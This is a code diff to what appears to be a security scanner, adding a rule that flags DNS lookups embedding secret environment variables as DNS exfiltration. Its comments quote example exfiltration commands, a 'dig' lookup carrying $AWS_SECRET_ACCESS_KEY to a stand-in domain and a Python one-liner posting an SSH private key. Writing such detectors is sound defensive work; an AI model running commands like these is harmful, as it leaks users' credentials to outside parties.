@@ -674,6 +674,18 @@ export function sentSecrets(v: View, laterSink: boolean, vars: ReadonlyMap<strin
   // 8. a secret variable in a URL or body
   const variable = secretVariableSent(v);
   if (variable) hits.push(variable);
+  // … or in a name looked up (`dig $AWS_SECRET_ACCESS_KEY.x.example`): the name server of that domain receives it
+  if (RESOLVERS.has(n) && !hits.length)
+    for (const x of v.a) {
+      SECRET_VARIABLE_REF.lastIndex = 0;
+      const m = !x.startsWith("-") && /\./.test(x) ? SECRET_VARIABLE_REF.exec(x) : null;
+      if (m) {
+        high(
+          `${n} looks up a name holding $${m[1] ?? m[2]} (${shortPath(x)}): the name server of that domain receives it (DNS exfiltration)`,
+        );
+        break;
+      }
+    }
   // 9. inline code that reads a key or the environment and posts it (python -c "requests.post(…, open('~/.ssh/id_rsa'))")
   if (isInterpreterName(n)) {
     const code = inlineCode(v);
